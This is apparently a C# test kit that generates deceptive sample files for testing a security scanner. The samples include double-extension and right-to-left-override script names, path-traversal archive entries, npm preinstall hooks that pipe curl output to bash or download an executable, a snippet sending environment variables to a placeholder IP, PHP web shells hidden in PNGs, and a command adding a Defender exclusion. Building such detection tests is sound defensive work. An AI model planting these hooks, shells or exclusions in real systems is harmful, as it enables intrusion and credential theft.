using System.Text;

namespace ScanHost.TestKit.Techniques;

/// <summary>A script under two extensions.</summary>
public sealed class DoubleExtension : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var run = "var w=new ActiveXObject('WScript.Shell');w.Run('powershell -nop -w hidden -c x');"u8.ToArray();
        var basic = "CreateObject(\"WScript.Shell\").Run \"powershell -nop -w hidden -c x\""u8.ToArray();
        return
        [
            ("invoice.pdf.js", run), ("photo.jpg                         .js", run), ("scan.doc.vbs", basic), ("Rechnung.xlsx.wsf", Encoding.UTF8.GetBytes($"<job><script language=\"JScript\">{Encoding.UTF8.GetString(run)}</script></job>")),
        ];
    }
}

/// <summary>Names in an archive that turn around, pad or climb.</summary>
public sealed class DeceivingNames : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var run = "var w=new ActiveXObject('WScript.Shell');w.Run('powershell -nop -w hidden -c x');"u8.ToArray();
        return
        [
            ("a.zip", InertFiles.Zip(("Rechnung\u202Efdp.js", run))), ("b.zip", InertFiles.Zip(("letter.pdf" + new string(' ', 60) + ".js", run))),
            ("c.zip", InertFiles.Zip(("docs/.. /.. /start.js", run))), ("d.zip", InertFiles.Zip(("../../Startup/a.pdf.js", run))),
        ];
    }
}

/// <summary>The anti-virus test file in wrappings.</summary>
public sealed class WrappedTestFile : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var zip = InertFiles.Zip(("test.com", EicarFile.Bytes));
        return
        [
            ("a.zip", zip), ("b.zip", InertFiles.Zip(("a.zip", InertFiles.Zip(("b.zip", zip))))), ("c.gz", InertFiles.Gzip(zip)),
            ("d.html", Encoding.UTF8.GetBytes($"<html><a href=\"data:application/zip;base64,{Convert.ToBase64String(zip)}\" download>x</a></html>")),
        ];
    }
}

/// <summary>npm packages whose installation fetches and runs.</summary>
public sealed class NpmInstallHook : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        const string Steal = "const c=require('child_process');const h=require('https');const r=h.request('http://192.0.2.7/in.sh');r.write(JSON.stringify(process.env));c.exec('id');";
        return
        [
            ("package.json", Manifest("curl -s http://192.0.2.1/a.sh | bash", "lodahs")), ("package.json", Manifest("node -e \\\"eval(Buffer.from('eA==','base64'))\\\"", "expres")),
            ("a.zip", InertFiles.Zip(("package/package.json", Manifest("node index.js", "reaect")), ("package/index.js", Encoding.UTF8.GetBytes(Steal + "eval(atob('YWxlcnQoMSkgICAgICAgICAg'));")))),
            ("b.zip", InertFiles.Zip(("package/package.json", Manifest("powershell -nop -w hidden -c iwr http://192.0.2.1/b.exe -OutFile b.exe", "axois")), ("package/i.js", Encoding.UTF8.GetBytes(Steal)))),
        ];
    }

    private static byte[] Manifest(string hook, string name) =>
        Encoding.UTF8.GetBytes($"{{\"name\":\"{name}\",\"version\":\"999.1.0\",\"scripts\":{{\"preinstall\":\"{hook}\"}}}}");
}

/// <summary>A picture with something behind its end or in its comments.</summary>
public sealed class LoadedPicture : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("a.png", InertFiles.Png(tail: InertFiles.Zip(("a.js", "var w=new ActiveXObject('WScript.Shell');w.Run('powershell -w hidden -nop -c x');"u8.ToArray())))),
        ("b.png", InertFiles.Png(text: "Comment\0<?php eval(base64_decode($_POST['x'])); ?>", tail: "<?php eval(base64_decode($_POST['x'])); ?>"u8.ToArray())),
        ("c.png", InertFiles.Png(tail: InertFiles.Zip(("test.com", EicarFile.Bytes)))),
        ("d.png", InertFiles.Png(text: "Comment\0<script>eval(atob('eA=='))</script>", tail: "<?php system($_GET['c']); eval(gzinflate(base64_decode('x'))); ?>"u8.ToArray())),
    ];
}

/// <summary>A program that does not stand in its file as it is, beside a script that betrays it.</summary>
public sealed class XoredProgram : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        byte[] Xored(byte key) => [7, 7, .. InertFiles.Pe().Select(one => (byte)(one ^ key))];
        var start = "powershell -nop -w hidden -ep bypass -File load.ps1\r\nAdd-MpPreference -ExclusionPath C:\\"u8.ToArray();
        return
        [
            ("a.zip", InertFiles.Zip(("a.dat", Xored(0x41)), ("run.pdf.bat", start))), ("b.zip", InertFiles.Zip(("b.bin", Xored(0xFF)), ("b.pdf.cmd", start))),
            ("c.zip", InertFiles.Zip(("c.dat", [1, .. InertFiles.Pe().Reverse()]), ("c.bat", start))), ("d.zip", InertFiles.Zip(("d.log", Xored(0x0D)), ("d.ps1", start))),
        ];
    }
}
